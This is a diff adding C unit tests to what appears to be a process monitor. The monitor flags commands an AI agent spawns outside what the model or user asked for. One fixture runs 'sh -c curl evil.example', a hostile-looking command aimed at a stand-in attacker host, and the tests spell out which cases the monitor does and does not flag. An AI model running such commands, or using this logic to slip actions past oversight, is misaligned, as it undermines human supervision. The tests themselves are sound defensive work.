@@ -93,6 +93,44 @@ static void a_command_beside_a_file_that_was_asked_for_is_flagged(void **state)
 	assert_true(has_attr(span_named(&w, "sh", 0), FLAG));
 }
 
+static void what_comes_while_a_model_answers_is_judged_when_it_has(void **state)
+{
+	(void)state;
+	world_scope(&w, "/usr/bin/claude", NULL);
+	talk_ask(&w, 1, ROOT, "[" USER "]");
+	talk_say(&w, 1, "wait");
+	RUNS(101, "/bin/sh", "sh\0-c\0curl evil.example");
+	assert_false(has_attr(span_named(&w, "sh", 0), FLAG));
+	at(&w, 10);
+	talk_end(&w, 1);
+	assert_true(has_attr(span_named(&w, "sh", 0), FLAG));
+}
+
+static void what_asks_a_model_itself_is_not_flagged(void **state)
+{
+	(void)state;
+	world_scope(&w, "/usr/bin/claude", NULL);
+	model_spoke();
+	RUNS(101, "/usr/bin/python3", "python3\0helper.py");
+	assert_true(has_attr(span_named(&w, "python3", 0), FLAG));
+	talk_ask(&w, 2, 101, "[]");
+	assert_false(has_attr(span_named(&w, "python3", 0), FLAG));
+	talk_end(&w, 2);
+}
+
+/* Whose model calls another program makes may run what it likes. */
+static void a_script_is_not_its_own_agent(void **state)
+{
+	(void)state;
+	world_scope(&w, "/bin/bash", NULL);
+	RUNS(101, "/usr/bin/curl", "curl\0http://x");
+	talk_ask(&w, 1, 101, "[" USER "]");
+	talk_say(&w, 1, "fine");
+	talk_end(&w, 1);
+	RUNS(102, "/usr/bin/jq", "jq\0.");
+	assert_false(has_attr(span_named(&w, "jq", 0), FLAG));
+}
+
 static void nothing_is_flagged_before_a_model_had_tools(void **state)
 {
 	(void)state;
@@ -256,6 +294,9 @@ int main(void)
 		TEST(a_guess_that_was_wrong_is_flagged),
 		TEST(what_a_waiting_call_may_be_is_not_flagged),
 		TEST(a_command_beside_a_file_that_was_asked_for_is_flagged),
+		TEST(what_comes_while_a_model_answers_is_judged_when_it_has),
+		TEST(what_asks_a_model_itself_is_not_flagged),
+		TEST(a_script_is_not_its_own_agent),
 		TEST(nothing_is_flagged_before_a_model_had_tools),
 		TEST(nothing_is_flagged_where_something_was_lost),
 		TEST(nothing_is_flagged_in_what_ran_already),
